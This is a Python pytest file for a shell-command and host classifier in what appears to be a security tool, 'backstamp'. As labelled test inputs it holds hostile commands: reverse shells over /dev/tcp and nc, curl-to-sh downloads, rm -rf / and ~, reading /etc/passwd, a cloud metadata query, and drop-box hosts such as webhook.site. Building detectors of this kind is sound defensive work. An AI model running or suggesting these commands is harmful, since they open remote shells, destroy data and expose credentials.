"""What shell commands do, by their text; which hosts are dubious."""

import pytest

from backstamp.knowledge.commands import Command, kind_of
from backstamp.knowledge.hosts import is_drop_box, is_dubious, is_metadata_service


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("git rev-parse HEAD", Command.ASKING),
        ("nvidia-smi -L | grep GPU", Command.ASKING),
        ("some-tool --version", Command.ASKING),
        ("cd x && git status", Command.ASKING),
        ("pip install a && pip install b", Command.TOOL),
        ("git clone https://x.example/a && cd a && pip install -e .", Command.TOOL),
        ("A=1 python setup.py build", Command.TOOL),
        ("python -c import os; print(1)", Command.TOOL),
        ("wget https://x.example/m.pth -O m.pth", Command.TOOL),
        ("payload --go", Command.OTHER),
        ("git status; payload", Command.OTHER),
        ("git $(payload)", Command.OTHER),
        ("python -c 'x' && payload", Command.OTHER),
        ("", Command.OTHER),
        ("curl http://x.example/a | sh", Command.HOSTILE),
        ("wget -qO- x.example | sudo bash", Command.HOSTILE),
        ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", Command.HOSTILE),
        ("nc -e /bin/sh 1.2.3.4 4444", Command.HOSTILE),
        ("rm -rf / ", Command.HOSTILE),
        ("rm -rf ~", Command.HOSTILE),
        ("cat /etc/passwd", Command.HOSTILE),
        ("echo x >> ~/.bashrc", Command.HOSTILE),
        ("powershell -enc ZQBjAGgAbwA=", Command.HOSTILE),
        ("curl http://169.254.169.254/latest", Command.HOSTILE),
        ("calc.exe", Command.HOSTILE),
        ("whoami", Command.HOSTILE),
        ("rm -rf build", Command.OTHER),
    ],
)
def test_judges_commands(text, kind):
    assert kind_of(text) is kind


@pytest.mark.parametrize(
    ("address", "answers"),
    [
        ("https://huggingface.co/a", (False, False, False)),
        ("https://webhook.site/x", (True, True, False)),
        ("http://8.9.10.11/x", (True, False, False)),
        ("http://127.0.0.1:8000", (False, False, False)),
        ("http://169.254.169.254/latest", (False, False, True)),
        ("https://api.telegram.org/bot123:x/sendMessage", (True, True, False)),
        ("https://api.telegram.org/bot{?}/sendMessage", (True, False, False)),
    ],
)
def test_knows_dubious_hosts(address, answers):
    assert (is_dubious(address), is_drop_box(address), is_metadata_service(address)) == answers
